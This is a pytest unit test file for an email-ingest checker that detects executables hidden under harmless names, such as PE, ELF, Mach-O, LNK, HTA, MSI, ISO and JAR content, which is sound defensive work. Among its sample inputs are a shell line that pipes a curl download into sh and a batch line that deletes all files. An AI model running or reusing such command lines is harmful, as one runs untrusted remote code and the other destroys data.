"""The ``executables`` rule: content first (a renamed program is still a program), name second."""

from __future__ import annotations

import pytest

from mailmoat.ingest.domain.checks import executables
from tests.unit.ingest.checks import office_samples
from tests.unit.ingest.checks.samples import make_zip, part, pe_executable

LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
MSI_CLSID = bytes.fromhex("84100c0000000000c000000000000046")


def _msi() -> bytes:
    data = bytearray(office_samples.compound_file({"Summary": b"x" * 100}))
    root = (1 + 1) * 512  # one FAT sector, then the directory; the root entry comes first
    data[root + 0x50 : root + 0x60] = MSI_CLSID
    return bytes(data)


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (pe_executable(), "Windows PE executable"),
        (b"\x7fELF\x02\x01\x01" + bytes(64), "ELF executable"),
        (b"\xcf\xfa\xed\xfe" + bytes(64), "Mach-O executable"),
        (LNK, "Windows shortcut (.lnk)"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "shebang script"),
        (b"<html><head><HTA:APPLICATION ID=a></head></html>", "HTML application (HTA)"),
        (b"@echo off\r\ndel /q *\r\n", "batch script"),
        (bytes(0x8001) + b"CD001" + bytes(100), "ISO 9660 disk image"),
        (make_zip({"META-INF/MANIFEST.MF": b"x", "a/Main.class": b"\xca\xfe"}), "Java archive"),
    ],
)
def test_dangerous_content_is_found_whatever_the_name(data: bytes, kind: str) -> None:
    findings = executables.check(part(data, "statement.pdf", "application/pdf"))
    assert [(f.code, f.reason) for f in findings] == [
        ("attachment.executable", f"{kind} by content")
    ]


def test_msi_is_told_apart_from_other_ole_files() -> None:
    assert executables.check(part(_msi(), "setup.dat"))[0].reason == (
        "Windows Installer package by content"
    )
    plain_ole = office_samples.compound_file({"Summary": b"x" * 100})
    assert executables.check(part(plain_ole, "setup.dat")) == []


def test_renamed_exe_reports_content_and_declared_type() -> None:
    findings = executables.check(part(pe_executable(), "invoice.pdf", "application/x-msdownload"))
    assert findings[0].reason == (
        "Windows PE executable by content; declared as application/x-msdownload"
    )
    assert findings[0].part == "2"


@pytest.mark.parametrize("name", ["run.js", "setup.MSI", "start.cmd", "tool.ps1", "disk.iso "])
def test_dangerous_extension_alone_is_a_signal(name: str) -> None:
    findings = executables.check(part(b"plain bytes", name))
    assert len(findings) == 1
    assert "by name" in findings[0].reason


def test_script_look_in_message_text_is_not_an_attachment() -> None:
    body = part(b"#!/bin/sh\necho this is how you do it\n", None, "text/plain")
    assert executables.check(body) == []


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"%PDF-1.7\n...", "statement.pdf"),
        (b"\x89PNG\r\n\x1a\n" + bytes(40), "photo.png"),
        (b"MZ is the start of this text file but nothing more", "notes.txt"),
        (make_zip({"a.txt": b"hello"}), "files.zip"),
    ],
)
def test_ordinary_files_are_clean(data: bytes, name: str) -> None:
    assert executables.check(part(data, name)) == []
